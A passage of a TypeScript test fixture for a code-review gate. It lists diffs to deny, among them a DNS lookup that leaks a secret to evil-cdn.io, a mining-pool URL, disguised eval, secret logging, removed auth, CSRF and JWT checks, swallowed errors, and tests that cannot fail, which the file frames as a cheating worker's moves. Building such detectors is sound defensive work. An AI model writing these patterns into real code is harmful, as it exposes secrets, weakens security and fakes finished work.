    FIX + TEST + patch("src/client.ts", " // Code generated by openapi. DO NOT EDIT.\n-const a = 1;\n+const a = 2;"),
  ],
];

const SUBTLE: Attack[] = [
  [
    "a global function by a name put together",
    "dynamic-code",
    JS("+const e = 'ev' + 'al';\n+(globalThis as Record<string, unknown>)[e](code);\n+globalThis[e](code);"),
  ],
  ["a setting with a secret logged", "secret-logged", JS("+console.log(process.env.DATABASE_URL);")],
  ["a whole request logged", "secret-logged", JS("+logger.info('body', req.body);")],
  ["a password's hash logged", "secret-logged", JS("+console.log(user.passwordHash);")],
  [
    "a header logged in Python",
    "secret-logged",
    TESTED_PY("+logger.debug('hdr %s', request.headers['Authorization'])"),
  ],
  ["a middleware commented out", "guard-removed", JS("-app.use(authMiddleware);\n+// app.use(authMiddleware);")],
  [
    "a token that never expires",
    "security-weakened",
    JS("-jwt.verify(t, k);\n+jwt.verify(t, k, { ignoreExpiration: true });"),
  ],
  [
    "a password that is not compared",
    "guard-removed",
    JS(
      "-  if (!(await bcrypt.compare(password, user.hash))) throw new Unauthorized();\n+  if (!password) throw new Unauthorized();",
    ),
  ],
  ["Django's CSRF taken out", "guard-removed", TESTED_PY("-    'django.middleware.csrf.CsrfViewMiddleware',")],
  [
    "an error printed and forgotten",
    "swallowed-error",
    JS("+  try {\n   run();\n+  } catch (e) {\n+    console.log(e);\n+  }"),
  ],
  [
    "an error printed and forgotten in Python",
    "swallowed-error",
    TESTED_PY(
      " def total(c):\n+    try:\n         return c.coupon.amount\n+    except Exception as e:\n+        print(e)\n+        pass",
    ),
  ],
  [
    "an error printed and forgotten in Java",
    "swallowed-error",
    FIX +
      TEST +
      patch(
        "src/main/java/A.java",
        "+    try {\n       run();\n+    } catch (Exception e) {\n+      e.printStackTrace();\n+    }",
      ),
  ],
  [
    "an error answered with an object",
    "swallowed-error",
    JS("+  try {\n   return cart.coupon.amount;\n+  } catch (e) {\n+    return { amount: 0 };\n+  }"),
  ],
  ["Swift's try?", "swallowed-error", FIX + TEST + patch("Sources/A.swift", "-    try save()\n+    try? save()")],
  ["Rust's let _", "swallowed-error", FIX + TEST + patch("src/a.rs", "-    save()?;\n+    let _ = save();")],
  [
    "Go's blank",
    "swallowed-error",
    FIX + TEST + patch("a.go", "-\tif err := save(); err != nil {\n-\t\treturn err\n-\t}\n+\t_ = save()"),
  ],
  [
    "if (1)",
    "security-weakened",
    JS(" export function total(cart) {\n+  if (1) return 0;\n   return cart.coupon.amount;"),
  ],
  [
    "the answer made a number",
    "hard-coded-result",
    JS(" export function total(cart) {\n-  return cart.coupon.amount;\n+  return 0;\n }"),
  ],
  ["a function emptied", "emptied", JS(" export function save(cart) {\n-  db.insert(cart);\n-  audit(cart);\n }")],
  [
    "tests for each of nothing",
    "test-cannot-fail",
    FIX + added("src/x.test.ts", "[].forEach((c) => {\n  it('a', () => {\n    expect(total(c)).toBe(0);\n  });\n});"),
  ],
  ["expect.anything alone", "test-cannot-fail", NEW_TEST("  expect(total({})).toEqual(expect.anything());")],
  [
    "its subject mocked",
    "test-cannot-fail",
    FIX +
      added(
        "src/cart.spec.ts",
        "vi.mock('./cart');\nimport { total } from './cart';\ntest('a', () => {\n  vi.mocked(total).mockReturnValue(0);\n  expect(total({})).toBe(0);\n});",
      ),
  ],
  [
    "Python: any object will do",
    "test-cannot-fail",
    FIX + added("tests/test_x.py", "def test_a():\n    assert isinstance(total(None), object)"),
  ],
  [
    "Python: None or not",
    "test-cannot-fail",
    FIX + added("tests/test_x.py", "def test_a():\n    r = total(None)\n    assert r is None or r is not None"),
  ],
  [
    "PHP: no assertion asked for",
    "test-cannot-fail",
    FIX +
      added(
        "tests/XTest.php",
        "<?php\nclass XTest extends TestCase {\n  public function testA(): void {\n    $this->expectNotToPerformAssertions();\n    (new Cart())->total();\n  }\n}",
      ),
  ],
  ["as any", "suppression", JS("-  return cart.coupon.amount;\n+  return (cart as any).coupon.amount;")],
  ["an exclamation mark", "suppression", JS("-  return cart.coupon.amount;\n+  return cart.coupon!.amount;")],
  [
    "two exclamation marks in Kotlin",
    "suppression",
    FIX + TEST + patch("src/main/kotlin/A.kt", "-    return coupon.amount\n+    return coupon!!.amount"),
  ],
  ["names told by DNS", "new-host", JS("+dns.lookup(`\x24{secret}.evil-cdn.io`);")],
  ["a mining pool", "exfiltration", JS("+const pool = 'stratum+tcp://pool.evil-cdn.io:3333';")],
  ["a key without a name", "secret", JS("+const s = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYZQ4LMPKKEY';")],
];

/** What an attacker, or a worker that cheats, tries in other languages and by other ways. All of them have to be stopped. */
export const ATTACKS: GateCase[] = [...PATHS, ...SHAPES, ...TESTS, ...ERRORS, ...GUARDS, ...CODE, ...SUBTLE].map(
  ([name, rule, diff]) => ({ name, rule, verdict: "deny", facts: { diff, taskKind: "bugfix" } }),
);
